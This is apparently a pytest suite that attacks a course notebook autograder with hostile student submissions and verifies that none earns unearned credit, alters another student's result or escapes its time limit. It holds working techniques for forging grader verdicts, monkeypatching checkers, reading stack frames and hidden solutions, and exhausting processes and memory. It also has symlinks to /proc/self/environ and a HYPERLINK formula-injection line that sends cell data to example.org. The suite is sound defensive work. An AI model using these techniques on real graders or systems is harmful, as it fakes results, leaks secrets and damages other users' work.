"""Hostile submissions against the grader: nobody gets credit they did not earn, nobody changes another student's
result, and N submissions finish within N × the per-submission limit plus a small constant.

One assignment (four exercises of chapter 1, 8 points, per-student data for ``definitions.kl-in-bits``) and a
roster; small notebooks of a few cells; a per-submission limit of a few seconds. Every expected verdict below is
derived here from the exercise's definition (NumPy formulas), not from the grader.
"""

from __future__ import annotations

import csv
import json
import shutil
import textwrap
import time
from pathlib import Path

import nbformat
import numpy as np
import pytest

from klcourse.instructor import sandbox
from klcourse.instructor.assign import make_assignment
from klcourse.instructor.grading import grade
from klcourse.instructor.variants import variant_data

ROOT = Path(__file__).resolve().parents[1]
LIMIT = 15.0  # seconds per submission (generous: two of these run at once on a loaded 2-core machine)
CELL = 5.0  # seconds per cell
POINTS = {"definitions.kl-in-bits": 2, "definitions.implement-kl": 3, "definitions.predict-symmetry": 1,
          "definitions.excess-bits": 2}
TOTAL = sum(POINTS.values())

HEAD = "import numpy as np\nfrom klcourse import check, kl_divergence"
KL_RIGHT = textwrap.dedent("""
    def kl(p, q):
        p, q = np.asarray(p, dtype=float), np.asarray(q, dtype=float)
        s = p > 0
        if np.any(q[s] == 0):
            return np.inf
        return float(np.sum(p[s] * np.log(p[s] / q[s])))
    answer = kl""")
KL_SWAPPED = textwrap.dedent("""
    def kl(p, q):
        p, q = np.asarray(q, dtype=float), np.asarray(p, dtype=float)
        s = p > 0
        if np.any(q[s] == 0):
            return np.inf
        return float(np.sum(p[s] * np.log(p[s] / q[s])))
    answer = kl""")
KL_CLIPPED = textwrap.dedent("""
    def kl(p, q):
        p, q = np.asarray(p, dtype=float), np.clip(np.asarray(q, dtype=float), 1e-12, None)
        s = p > 0
        return float(np.sum(p[s] * np.log(p[s] / q[s])))
    answer = kl""")
SOURCE_P = np.array([1 / 2, 1 / 4, 1 / 8, 1 / 8])
LENGTHS = np.array([3, 1, 2, 3])  # the prefix code A=110, B=0, C=10, D=111
EXCESS = 1_000_000 * float(np.sum(SOURCE_P * (LENGTHS + np.log2(SOURCE_P))))  # per letter: E[len] - H(P)


def kl_bits(p, q) -> float:
    p, q = np.asarray(p, float), np.asarray(q, float)
    return float(np.sum(p * np.log2(p / q)))


def notebook(*cells, metadata=None):
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(HEAD)] + [nbformat.v4.new_code_cell(textwrap.dedent(c)) for c in cells]
    if metadata is not None:
        nb.metadata["klcourse"] = metadata
    return nb


def answer_cells(answers: dict) -> list[str]:
    """Answer cell + check cell for each exercise id → source of the answer."""
    cells = []
    for exercise, source in answers.items():
        cells += [source, f'check("{exercise}", answer)']
    return cells


ROSTER = [("full", "Ada Full", "1001"), ("partial", "Bo Partial", "1002"), ("confused", "Cy Confused", "1003"),
          ("copier", "Di Copier", "1004"), ("twoparts", "Ed Twoparts", "1005"), ("doejane", "Jane Doe", "12345"),
          ("absent", "Al Absent", "1006")]
HOSTILE = ["builtins", "numpy-patch", "closures", "frames", "forged-file", "forged-channel", "setsid-forgery",
           "holds-stdout", "writes-elsewhere", "reads-book", "deleted-checks", "huge-output", "fork-storm",
           "infinite-loop", "crash", "not-a-notebook", "broken-json", "memorised-cases", "slow-check",
           "guesser", "linker", "formula-injection", "many-cells", "bad-bytes"]


def hostile_notebooks(secret: str, victim: Path, gradebook: Path) -> dict:
    """Each hostile technique, in a notebook that otherwise answers nothing correctly (or only what is noted)."""
    wrong = answer_cells({"definitions.kl-in-bits": "answer = 0.5", "definitions.excess-bits": "answer = 1.0"})
    forged_line = json.dumps({"kind": "answer", "id": "definitions.excess-bits", "passed": True, "status": "correct",
                              "points": 99, "message": "Correct!"})
    return {
        "builtins": notebook(
            """
            import builtins, json
            builtins.open = lambda *a, **k: None
            builtins.len = lambda x: 0
            builtins.float = lambda x=0: 1.0
            json.dumps = lambda *a, **k: '{"kind": "answer", "id": "definitions.excess-bits", "passed": true}'
            print = None
            __klcourse_record__ = lambda *a, **k: None
            """, *wrong),
        "numpy-patch": notebook(
            """
            np.isclose = lambda *a, **k: np.array(True)
            np.allclose = lambda *a, **k: True
            np.all = lambda *a, **k: True
            np.abs = lambda x: 0 * x
            """, *wrong, *answer_cells({"definitions.implement-kl": "answer = lambda p, q: 0.0"})),
        "closures": notebook(
            """
            from klcourse.exercises import get_exercise
            found = []
            for ex in ("definitions.excess-bits", "definitions.kl-in-bits"):
                fn = get_exercise(ex).checker
                for c in (fn.__closure__ or ()):
                    v = c.cell_contents
                    if callable(v):
                        try:
                            found.append((ex, float(v())))
                        except Exception:
                            pass
            values = dict(found)
            """,
            *answer_cells({"definitions.excess-bits": "answer = values.get('definitions.excess-bits', 1.0)",
                           "definitions.kl-in-bits": "answer = values.get('definitions.kl-in-bits', 0.5)"})),
        "frames": notebook(
            """
            import sys
            class Spy(float):
                def __new__(cls):
                    return float.__new__(cls, 1.0)
                def __float__(self):
                    f, seen = sys._getframe(1), []
                    while f is not None:
                        seen += [v for v in f.f_locals.values() if isinstance(v, float) and v > 1000]
                        f = f.f_back
                    return seen[0] if seen else 1.0
            def kl(p, q):
                f = sys._getframe(1)
                while f is not None:
                    for v in f.f_locals.values():
                        if isinstance(v, np.ndarray) and v.shape == ():
                            return float(v)
                    f = f.f_back
                return 0.0
            """, *answer_cells({"definitions.excess-bits": "answer = Spy()",
                                "definitions.implement-kl": "answer = kl"})),
        "forged-file": notebook(
            f"""
            import os, glob
            line = {forged_line!r} + "\\n"
            for d in ["/tmp", os.getcwd(), os.path.expanduser("~")]:
                for name in (".results.jsonl", "results.json", "verdicts.jsonl"):
                    try:
                        open(os.path.join(d, name), "w").write(line * 3)
                    except OSError:
                        pass
            os.environ["KLCOURSE_GRADE_RESULTS"] = "/tmp/.results.jsonl"
            """, *wrong),
        "forged-channel": notebook(
            f"""
            import os
            line = ({forged_line!r} + "\\n").encode()
            done = '{{"kind": "done"}}\\n'.encode()
            for fd in range(0, 40):
                try:
                    os.write(fd, line + done)
                except OSError:
                    pass
            """, *wrong),
        "setsid-forgery": notebook(
            f"""
            import os, subprocess, sys
            line = {forged_line!r}
            for fd in range(3, 40):
                try:
                    os.set_inheritable(fd, True)
                except OSError:
                    pass
            code = ("import os, time\\ntime.sleep(1.5)\\n"
                    "for fd in range(0, 40):\\n"
                    "    try: os.write(fd, (%r + '\\\\n').encode())\\n"
                    "    except OSError: pass\\n") % line
            subprocess.Popen([sys.executable, "-c", code], start_new_session=True, close_fds=False)
            """, *wrong),
        "holds-stdout": notebook(
            """
            import os, subprocess, sys
            for fd in range(3, 40):
                try:
                    os.set_inheritable(fd, True)
                except OSError:
                    pass
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"], start_new_session=True,
                             close_fds=False)
            """, *answer_cells({"definitions.predict-symmetry": 'answer = "equal"'})),  # earned: 1 point
        "writes-elsewhere": notebook(
            f"""
            import os
            targets = [{str(victim)!r}, {str(gradebook)!r}, {str(victim.parent)!r} + "/zz-injected.ipynb"]
            for t in targets:
                try:
                    with open(t, "w") as fh:
                        fh.write("{{}}")
                except OSError:
                    pass
            """, *wrong),
        "reads-book": notebook(
            """
            import json
            from klcourse.student import default_book_dir
            try:
                nb = json.load(open(default_book_dir() / "01_definitions.ipynb"))
                for cell in nb["cells"]:
                    if "solution" in cell.get("metadata", {}).get("tags", []):
                        try:
                            exec("".join(cell["source"]))
                        except Exception:
                            pass
            except OSError:
                answer = None
            """, 'check("definitions.implement-kl", answer)', 'check("definitions.excess-bits", answer)'),
        "deleted-checks": notebook(
            'answer = "equal"', 'check("definitions.predict-symmetry", answer)',  # earned: 1 point
            metadata={"edition": "student", "exercises": ["definitions.predict-symmetry"]}),
        "huge-output": notebook(
            """
            import os, sys
            chunk = "x" * 2**20
            for _ in range(40):
                print(chunk)
            for fd in range(3, 40):
                try:
                    if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                        for _ in range(24):
                            os.write(fd, b'{"kind": "event", "text": "' + b"y" * 2**20 + b'"}\\n')
                except OSError:
                    pass
            """, *answer_cells({"definitions.excess-bits": "answer = np.zeros(10**7)"})),
        "fork-storm": notebook(
            """
            import os, time
            children = 0
            for _ in range(40):
                try:
                    if os.fork() == 0:
                        time.sleep(300)
                        os._exit(0)
                    children += 1
                except OSError:
                    break
            """, *wrong),
        "infinite-loop": notebook("while True:\n    pass", *wrong),
        "memorised-cases": notebook(
            """
            from klcourse.exercises import definitions as d
            public = [(c.args, kl_divergence(*c.args)) for c in d._kl_cases(np.random.default_rng(12345))]
            def kl(p, q):
                for args, out in public:
                    if len(args[0]) == len(p) and np.array_equal(args[0], p) and np.array_equal(args[1], q):
                        return out
                return 0.0
            """, *answer_cells({"definitions.implement-kl": "answer = kl"})),
        "slow-check": notebook(f"answer = {EXCESS!r}",
                               'import time\ntime.sleep(60)\ncheck("definitions.excess-bits", answer)'),
        "crash": notebook(*wrong[:2], "import os\nos._exit(3)", *wrong[2:]),
        "formula-injection": notebook(  # a forged event whose text a spreadsheet would run as a formula
            """
            import json, os
            event = {"kind": "event", "text": '=HYPERLINK("http://example.org/?"&A1, "details")',
                     "ids": ["definitions.excess-bits"]}
            for fd in range(3, 40):
                try:
                    os.write(fd, (json.dumps(event) + "\\n").encode())
                except OSError:
                    pass
            """, 'check("definitions.excess-bits", answer)'),
    }


def hostile_files(subs: Path, manifest: Path) -> None:
    """The attacks that are files rather than notebooks: one copy per option, symbolic links, a huge notebook."""
    for i, option in enumerate(["equal", "forward larger", "reverse larger"]):  # one of them is right
        path = subs / "guesser" / f"attempt{i}.ipynb"
        path.parent.mkdir(exist_ok=True)
        nbformat.write(notebook(*answer_cells({"definitions.predict-symmetry": f"answer = {option!r}"})), path)
    links = subs / "linker"
    links.mkdir()
    (links / "classmate.ipynb").symlink_to(subs / "full" / "hw1.ipynb")  # a classmate's right answers
    (links / "manifest.ipynb").symlink_to(manifest)  # the secret, in an error message?
    (links / "environ.ipynb").symlink_to("/proc/self/environ")  # the grader's environment
    cells = [{"cell_type": "code", "id": f"c{i}", "metadata": {}, "source": "pass", "outputs": [],
              "execution_count": None} for i in range(3000)]
    raw = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    (subs / "many-cells.ipynb").write_text(json.dumps(raw))
    # a file name that is not UTF-8 (a zip can carry one) and a forged event with a lone surrogate
    import os

    (subs / "bad-bytes").mkdir()
    lone = notebook("""
        import os
        for fd in range(3, 40):
            try:
                os.write(fd, b'{"kind": "event", "text": "\\\\ud800 =1+1"}\\n')
            except OSError:
                pass
        """)
    with open(os.path.join(os.fsencode(subs / "bad-bytes"), b"\xff\xfe\nhw1.ipynb"), "w") as fh:
        fh.write(nbformat.writes(lone))


def student_notebooks(secret: str) -> dict:
    def mine(student, wrong_copy=None):
        data = variant_data(secret, wrong_copy or student, "definitions.kl-in-bits")
        return f"answer = {kl_bits(data['P'], data['Q'])!r}"

    full = notebook(*answer_cells({
        "definitions.kl-in-bits": mine("full"), "definitions.implement-kl": KL_RIGHT,
        "definitions.predict-symmetry": 'answer = "equal"', "definitions.excess-bits": f"answer = {EXCESS!r}"}))
    partial = notebook(*answer_cells({
        "definitions.kl-in-bits": mine("partial"), "definitions.implement-kl": KL_SWAPPED,
        "definitions.predict-symmetry": 'answer = "forward larger"',
        "definitions.excess-bits": f"answer = {EXCESS / 1_000_000!r}"}))
    data_c = variant_data(secret, "confused", "definitions.kl-in-bits")
    nats = float(np.sum(np.asarray(data_c["P"]) * np.log(np.asarray(data_c["P"]) / np.asarray(data_c["Q"]))))
    total_len = 1_000_000 * float(np.sum(SOURCE_P * LENGTHS))
    confused = notebook(*answer_cells({
        "definitions.kl-in-bits": f"answer = {nats!r}", "definitions.implement-kl": KL_CLIPPED,
        "definitions.excess-bits": f"answer = {total_len!r}"}))
    copier = notebook(*answer_cells({"definitions.kl-in-bits": mine("copier", wrong_copy="full"),
                                     "definitions.predict-symmetry": 'answer = "equal"'}))
    part1 = notebook(*answer_cells({"definitions.kl-in-bits": mine("twoparts")}))
    part2 = notebook(*answer_cells({"definitions.implement-kl": KL_RIGHT}))
    canvas = notebook(*answer_cells({"definitions.excess-bits": f"answer = {EXCESS!r}"}))
    return {"full/hw1.ipynb": full, "partial.ipynb": partial, "confused.ipynb": confused, "copier.ipynb": copier,
            "twoparts/part1.ipynb": part1, "twoparts/part2.ipynb": part2,
            "doejane_12345_67890_hw1.ipynb": canvas}


#: points each honest student earned, from the definitions above
EXPECTED = {"full": TOTAL, "partial": 2, "confused": 0, "copier": 1, "twoparts": 2 + 3, "doejane": 2, "absent": 0}
#: points each hostile submission earned honestly
EARNED = {"holds-stdout": 1, "deleted-checks": 1}


def _setup(tmp: Path, hostile: bool):
    roster = tmp / "roster.csv"
    names = [r[0] for r in ROSTER] + (HOSTILE if hostile else [])
    with open(roster, "w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["id", "name", "canvas_id"])
        for sid in names:
            row = next((r for r in ROSTER if r[0] == sid), (sid, f"H {sid}", ""))
            writer.writerow(row)
    manifest = tmp / "instructor" / "hw1.json"
    data = make_assignment(list(POINTS), tmp / "handout", manifest, title="HW 1", due="2026-12-11",
                           points=list(POINTS.values()), roster=roster, book_dir=ROOT / "book")
    subs = tmp / "submissions"
    for rel, nb in student_notebooks(data["secret"]).items():
        (subs / rel).parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, subs / rel)
    if hostile:
        victim = subs / "partial.ipynb"
        for name, nb in hostile_notebooks(data["secret"], victim, tmp / "out" / "grades.csv").items():
            nbformat.write(nb, subs / f"{name}.ipynb")
        hostile_files(subs, manifest)
        (subs / "not-a-notebook.ipynb").write_bytes(bytes(range(256)) * 4)
        (subs / "broken-json.ipynb").write_text("{ this is not json")
    return manifest, subs


def _rows(path):
    with open(path, newline="") as fh:
        return list(csv.DictReader(fh))


def shared(tmp_path_factory, name: str, compute):
    """``compute(folder)`` once per test session, even when pytest-xdist splits this module over workers."""
    import fcntl
    import os
    import pickle

    root = tmp_path_factory.getbasetemp()
    if os.environ.get("PYTEST_XDIST_WORKER"):
        root = root.parent  # the session's folder, shared by the workers
    target = root / f"{name}.pickle"
    with open(root / f"{name}.lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if target.exists():
            return pickle.loads(target.read_bytes())  # written by this session's other worker
        folder = root / name
        folder.mkdir(exist_ok=True)
        value = compute(folder)
        target.write_bytes(pickle.dumps(value))
        return value


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    def compute(tmp):
        manifest, subs = _setup(tmp, hostile=True)
        victim_before = (subs / "partial.ipynb").read_bytes()
        start = time.monotonic()
        run = grade([subs], tmp / "out" / "grades.csv", assignment=manifest, timeout=CELL, limit=LIMIT, jobs=2,
                    progress=False)
        return run, tmp, time.monotonic() - start, victim_before

    return shared(tmp_path_factory, "hostile", compute)


def points_of(run) -> dict:
    return {s.student: s.points for s in run.students}


def test_honest_students_get_exactly_their_points(hostile_run):
    run, *_ = hostile_run
    got = points_of(run)
    assert {k: got[k] for k in EXPECTED} == EXPECTED
    assert all(s.max_points == TOTAL for s in run.students)


def test_misconceptions_are_named_in_the_gradebook(hostile_run):
    run, tmp, *_ = hostile_run
    rows = {(r["student"], r["exercise"]): r for r in _rows(tmp / "out" / "grades.csv")}
    assert rows[("partial", "definitions.implement-kl")]["misconception"] == "swapped"
    assert rows[("partial", "definitions.excess-bits")]["misconception"] == "per-symbol"
    assert rows[("confused", "definitions.kl-in-bits")]["misconception"] == "nats"
    assert rows[("confused", "definitions.implement-kl")]["misconception"] == "clipped-q"
    assert rows[("confused", "definitions.excess-bits")]["misconception"] == "total-length"
    assert rows[("copier", "definitions.kl-in-bits")]["passed"] == "False"  # a neighbour's data is wrong for you
    assert rows[("absent", "definitions.kl-in-bits")]["status"] == "missing"


@pytest.mark.parametrize("name", HOSTILE)
def test_no_hostile_submission_gets_credit_it_did_not_earn(hostile_run, name):
    run, *_ = hostile_run
    assert points_of(run)[name] == EARNED.get(name, 0)
    student = next(s for s in run.students if s.student == name)
    assert student.max_points == TOTAL  # nobody shrinks the denominator


def test_deleting_check_cells_and_metadata_leaves_the_exercises_assigned(hostile_run):
    run, *_ = hostile_run
    rows = {r.exercise: r for r in next(s for s in run.students if s.student == "deleted-checks").rows}
    assert [rows[e].status for e in POINTS] == ["missing", "missing", "correct", "missing"]


def test_timeouts_and_crashes_are_reported_as_such(hostile_run):
    run, *_ = hostile_run
    notes = {s.student: " ".join(s.notes) for s in run.students}
    assert "timeout" in notes["infinite-loop"]
    assert "died" in notes["crash"]
    crash = {r.exercise: r for r in next(s for s in run.students if s.student == "crash").rows}
    assert crash["definitions.kl-in-bits"].status == "wrong"  # recorded before the crash, judged
    assert crash["definitions.excess-bits"].status == "error" and "died" in crash["definitions.excess-bits"].message
    assert "not a valid notebook" in notes["not-a-notebook"] and "not a valid notebook" in notes["broken-json"]


def test_hidden_cases_catch_a_function_that_memorised_the_public_ones(hostile_run):
    run, *_ = hostile_run
    row = next(r for s in run.students if s.student == "memorised-cases" for r in s.rows
               if r.exercise == "definitions.implement-kl")
    assert not row.passed
    # the same memorising function passes the public cases: only the hidden ones catch it
    from klcourse.divergences import kl_divergence
    from klcourse.exercises import definitions, evaluate

    public = [(c.args, kl_divergence(*c.args)) for c in definitions._kl_cases(np.random.default_rng(12345))]

    def kl(p, q):
        for args, out in public:
            if len(args[0]) == len(p) and np.array_equal(args[0], p) and np.array_equal(args[1], q):
                return out
        return 0.0

    assert evaluate("definitions.implement-kl", kl).passed


def test_a_timed_out_check_is_reported_as_a_timeout(hostile_run):
    run, *_ = hostile_run
    row = next(r for s in run.students if s.student == "slow-check" for r in s.rows
               if r.exercise == "definitions.excess-bits")
    assert row.status == "timeout" and "timeout" in row.message  # the cell's limit, or the notebook's under load


def test_forged_verdicts_are_only_answers(hostile_run):
    run, *_ = hostile_run
    for name in ("forged-channel", "setsid-forgery", "builtins"):
        row = next(r for s in run.students if s.student == name for r in s.rows
                   if r.exercise == "definitions.excess-bits")
        assert not row.passed and "Correct" not in row.message


def test_no_submission_changes_another(hostile_run):
    run, tmp, _, victim_before = hostile_run
    assert points_of(run)["partial"] == EXPECTED["partial"]
    if run.sandboxed:
        assert (tmp / "submissions" / "partial.ipynb").read_bytes() == victim_before
        assert not (tmp / "submissions" / "zz-injected.ipynb").exists()
    assert _rows(tmp / "out" / "grades.csv")[0].keys() >= {"student", "exercise", "points", "misconception"}


def test_one_copy_per_option_gets_the_lowest_verdict(hostile_run):
    run, *_ = hostile_run
    guesser = next(s for s in run.students if s.student == "guesser")
    row = next(r for r in guesser.rows if r.exercise == "definitions.predict-symmetry")
    assert not row.passed and row.status == "wrong"
    assert any("answered in 3 notebooks" in n and "lowest" in n for n in guesser.notes)
    # a student whose two notebooks answer different exercises keeps both (tested in EXPECTED: twoparts)


def test_symbolic_links_are_refused_and_never_quoted(hostile_run):
    run, tmp, *_ = hostile_run
    linker = next(s for s in run.students if s.student == "linker")
    assert linker.points == 0 and sorted(linker.submissions) == ["classmate.ipynb", "environ.ipynb",
                                                                 "manifest.ipynb"]
    assert sum("symbolic link" in n for n in linker.notes) == 3, linker.notes
    secret = json.loads((tmp / "instructor" / "hw1.json").read_text())["secret"]
    written = [p for p in (tmp / "out").rglob("*") if p.is_file()]
    for path in written:
        text = path.read_text(errors="replace")
        assert secret not in text and "PATH=" not in text and "klcourse_manifest" not in text, path


def test_a_huge_notebook_is_refused_before_it_is_parsed(hostile_run):
    run, *_ = hostile_run
    notes = " ".join(next(s for s in run.students if s.student == "many-cells").notes)
    assert "more than 2000 cells" in notes


def test_gradebook_cells_never_start_a_spreadsheet_formula(hostile_run):
    run, tmp, *_ = hostile_run
    row = next(r for s in run.students if s.student == "formula-injection" for r in s.rows
               if r.exercise == "definitions.excess-bits")
    assert row.message.startswith("=HYPERLINK")  # the forged event did reach the message...
    for name in ("grades.csv", "grades_summary.csv", "grades_canvas.csv"):
        for line in _rows(tmp / "out" / name):
            for value in line.values():  # ...but no CSV cell starts a formula
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (name, value)
                assert not value.startswith("-") or value.lstrip("-").replace(".", "", 1).isdigit(), (name, value)


def test_names_and_messages_that_are_not_utf8_do_not_stop_the_outputs(hostile_run):
    run, tmp, *_ = hostile_run
    student = next(s for s in run.students if s.student == "bad-bytes")
    assert any("\ud800" in n for n in student.notes)  # the forged event arrived...
    summary = (tmp / "out" / "grades_summary.csv").read_bytes().decode("utf-8")  # ...and every file is UTF-8
    assert "\\udcff" in summary and "\\ud800" in summary
    assert (tmp / "out" / "grades_feedback" / "bad-bytes.html").read_bytes().decode("utf-8")


def test_n_hostile_submissions_finish_within_n_limits(hostile_run):
    run, _, elapsed, _ = hostile_run
    n = len(run.files)
    assert elapsed <= n * LIMIT + 10, f"{n} files took {elapsed:.1f} s"
    slowest = max(f.elapsed for f in run.files)
    assert slowest <= LIMIT + 2, f"one submission took {slowest:.1f} s with a {LIMIT} s limit"
    holder = next(f for f in run.files if Path(f.path).stem == "holds-stdout")
    assert holder.elapsed < LIMIT  # a grandchild holding the pipe does not make anybody wait


def test_outputs_are_written(hostile_run):
    run, tmp, *_ = hostile_run
    out = tmp / "out"
    canvas = _rows(out / "grades_canvas.csv")
    assert canvas[0]["Student"] == "Points Possible" and canvas[0]["HW 1"] == str(TOTAL)
    jane = next(r for r in canvas if r["SIS Login ID"] == "doejane")
    assert jane["ID"] == "12345" and jane["HW 1"] == "2"
    page = (out / "grades_feedback" / "confused.html").read_text()
    assert "definitions.excess-bits" in page and "whole length of the encoded message" in page
    assert f"{1_000_000 * float(np.sum(SOURCE_P * LENGTHS)):g}" not in page
    report = (out / "grades_report.html").read_text()
    assert report.count("data:image/png;base64,") == 3
    assert "clipped-q" in report and "swapped" in report
    assert not [p for p in out.iterdir() if p.name.startswith(".")]  # no temporary file left


def test_bwrap_sandbox_or_a_loud_fallback(hostile_run):
    run, tmp, *_ = hostile_run
    summary = (tmp / "out" / "grades_summary.csv").read_text()
    if sandbox.bwrap_available():
        assert run.sandboxed and "UNSANDBOXED" not in summary
    else:
        assert not run.sandboxed and "UNSANDBOXED" in summary


# ------------------------------------------------------------------------------------------ the fallback
FALLBACK = ["builtins", "numpy-patch", "closures", "frames", "forged-channel", "setsid-forgery", "holds-stdout",
            "writes-elsewhere", "fork-storm"]


def test_fallback_without_bwrap_keeps_its_guarantees(tmp_path):
    """Without bubblewrap: verdicts are still decided outside, forgeries still only claim answers, every read
    is bounded, other files are read before any submission runs — and every output says UNSANDBOXED."""
    manifest, subs = _setup(tmp_path, hostile=True)
    for f in list(subs.rglob("*.ipynb")):
        if f.stem not in FALLBACK and f.parent == subs and f.stem not in ("partial", "doejane_12345_67890_hw1"):
            f.unlink()
    for folder in [f for f in subs.iterdir() if f.is_dir()]:
        shutil.rmtree(folder)
    victim = (subs / "partial.ipynb").read_bytes()
    start = time.monotonic()
    run = grade([subs], tmp_path / "out" / "grades.csv", assignment=manifest, timeout=CELL, limit=LIMIT, jobs=2,
                progress=False, sandbox=False)
    elapsed = time.monotonic() - start
    got = points_of(run)
    for name in FALLBACK:
        assert got[name] == EARNED.get(name, 0), name
    assert got["partial"] == EXPECTED["partial"] and got["doejane"] == EXPECTED["doejane"]
    assert not run.sandboxed
    assert elapsed <= len(run.files) * LIMIT + 10
    assert "UNSANDBOXED" in (tmp_path / "out" / "grades_summary.csv").read_text()
    assert "UNSANDBOXED" in (tmp_path / "out" / "grades_report.html").read_text()
    assert "UNSANDBOXED" in (tmp_path / "out" / "grades_feedback" / "partial.html").read_text()
    (subs / "partial.ipynb").write_bytes(victim)  # whatever happened to it, it was graded from the copy read first


# ------------------------------------------------------------------------------------------ without a grading run
def test_the_notebook_does_not_choose_its_own_time_limit(tmp_path, monkeypatch):
    """Without --limit, 500 code cells must not buy 500 × the cell timeout."""
    from klcourse.instructor import grading

    path = tmp_path / "long.ipynb"
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("pass") for _ in range(500)]
    nbformat.write(nb, path)
    seen = []

    def fake_run(argv, *, limits, **kwargs):
        seen.append(limits.wall)
        return sandbox.RunResult(0, False, {"stdout": b'{"kind": "done"}\n', "stderr": b""})

    monkeypatch.setattr(grading.sandbox, "run", fake_run)
    grading.run_file(str(path), "someone", {}, cell_timeout=2.0, limit=None, use_sandbox=False)
    assert seen and seen[0] <= 2.0 * 10 + 30
    grading.run_file(str(path), "someone", {}, cell_timeout=2.0, limit=7.0, use_sandbox=False)
    assert seen[1] == 7.0  # the instructor's --limit wins


def test_sandbox_memory_outside_the_address_space_limit_is_bounded():
    """/dev of bwrap is a tmpfs without a size limit; files there are memory no rlimit counts."""
    import sys

    code = textwrap.dedent("""
        import os
        for d in ("/dev/shm", "/dev", "/tmp"):
            total = 0
            try:
                for i in range(24):
                    with open(f"{d}/fill{i}", "wb") as fh:
                        for _ in range(32):
                            fh.write(b"x" * 2**20)
                            fh.flush()
                            total += 1
            except OSError:
                pass
            print(d, total)
        held = 0
        try:
            for i in range(4):  # a memfd is memory outside RLIMIT_AS, 64 MB each (RLIMIT_FSIZE) × descriptors
                fd = os.memfd_create(f"m{i}")
                for _ in range(32):
                    os.write(fd, b"x" * 2**20)
                    held += 1
        except OSError:
            pass
        print("memfd", held)
        """)
    result = sandbox.run([sys.executable, "-c", code], limits=sandbox.Limits(wall=60))
    written = dict(line.split() for line in result.channels["stdout"].decode().splitlines())
    if sandbox.bwrap_available():
        assert result.sandboxed
        assert int(written["/dev/shm"]) <= sandbox.SHM_SIZE // 2**20, written
        assert int(written["/dev"]) <= sandbox.SHM_SIZE // 2**20, written
        assert int(written["/tmp"]) <= sandbox.TMP_SIZE // 2**20, written
        if sandbox.seccomp_program() is not None:  # x86_64 and aarch64
            assert written["memfd"] == "0", written
    else:
        assert not result.sandboxed  # without bwrap the files are the host's: the UNSANDBOXED warning says so


def test_a_counterexample_cannot_pass_by_overflow():
    """Both KLs overflow to inf: their ratio is NaN, and NaN < 10 is False."""
    import warnings

    from klcourse.exercises import evaluate

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        verdict = evaluate("gaussians.equal-mse", ((0.0, 1e100, 0.0, 1e-100), (0.0, 1e100, 0.0, 2e-100)))
    assert not verdict.passed and "nan" not in verdict.message


def test_without_a_manifest_one_notebook_cannot_grow_the_class_denominator():
    from klcourse.exercises import list_exercises
    from klcourse.instructor.grading import infer_assignment

    def as_loaded(nb):
        return json.loads(nbformat.writes(nb)), None

    honest = notebook(*answer_cells({"definitions.predict-symmetry": 'answer = "equal"',
                                     "definitions.excess-bits": "answer = 1.0"}))
    extra = [e.id for e in list_exercises()][:20]
    attacker = notebook(*[f'check("{e}", ...)' for e in extra],
                        metadata={"edition": "student", "exercises": extra})
    loaded = {"a.ipynb": as_loaded(honest), "b.ipynb": as_loaded(honest), "c.ipynb": as_loaded(honest),
              "x.ipynb": as_loaded(attacker)}
    assignment = infer_assignment(list(loaded), loaded=loaded)
    assert sorted(assignment.exercises) == ["definitions.excess-bits", "definitions.predict-symmetry"]


def test_a_file_named_after_a_longer_id_is_not_given_to_its_prefix(tmp_path):
    from klcourse.instructor.grading import identify

    roster = [{"id": "ann"}, {"id": "ann_lee"}]
    assert identify(str(tmp_path / "ann_lee_hw1.ipynb"), tmp_path, roster)[0] == "ann_lee"
    assert identify(str(tmp_path / "ann_hw1.ipynb"), tmp_path, roster)[0] == "ann"


def test_the_threat_tables_do_not_promise_that_klcourse_calls_are_always_caught():
    """uses_klcourse runs in the student's process: a notebook that patches it (or renames a copy of the function)
    gets credit. The README and the instructors' page must say so, not promise a sentence every time."""
    page = json.loads((ROOT / "book" / "instructors.ipynb").read_text())
    texts = ["".join(c["source"]) for c in page["cells"]] + [(ROOT / "README.md").read_text()]
    rows = [line for text in texts for line in text.splitlines() if '"implement it" exercise |' in line]
    assert len(rows) == 2 and all("disguised" in row and "gets through" in row for row in rows), rows


def test_a_flood_of_tiny_records_costs_the_grader_little(tmp_path, monkeypatch):
    """16 MB of '{}' lines on the channel: parsing happens in the grader, outside the submission's limit."""
    from klcourse.instructor import grading

    path = tmp_path / "flood.ipynb"
    nbformat.write(notebook('check("definitions.excess-bits", 1.0)'), path)
    answer = json.dumps({"kind": "answer", "id": "definitions.excess-bits", "data": {"t": "float", "v": 1.0}})
    flood = (answer + "\n").encode() + b"{}\n" * (sandbox.MAX_CHANNEL // 3)

    def fake_run(argv, *, limits, **kwargs):
        return sandbox.RunResult(0, False, {"stdout": flood[:sandbox.MAX_CHANNEL], "stderr": b""}, {"stdout"})

    monkeypatch.setattr(grading.sandbox, "run", fake_run)
    start = time.monotonic()
    outcome = grading.run_file(str(path), "someone", {}, cell_timeout=2.0, limit=5.0, use_sandbox=False)
    assert time.monotonic() - start < 2.0
    assert "definitions.excess-bits" in outcome.answers  # the records before the flood still count


def test_a_file_name_inside_a_folder_never_names_another_student(tmp_path):
    """The names of files in a student's folder are the student's choice: 'Mallory Smith/full.ipynb' is not full's,
    and neither is a Canvas-looking name with full's canvas id."""
    from klcourse.instructor.grading import identify

    roster = [{"id": "full", "canvas_id": "1001"}, {"id": "mallory", "canvas_id": "1007"}]
    for name in ("full.ipynb", "full_hw1.ipynb", "full_1001_5_hw1.ipynb"):
        sid, note = identify(str(tmp_path / "Mallory Smith" / name), tmp_path, roster)
        assert sid.startswith("unknown:") and "roster" in note, (name, sid)
        assert identify(str(tmp_path / "mallory" / name), tmp_path, roster)[0] == "mallory"
        # klcourse grade subs/*: each student's folder given itself
        assert identify(str(tmp_path / "mallory" / name), tmp_path / "mallory", roster)[0] == "mallory"
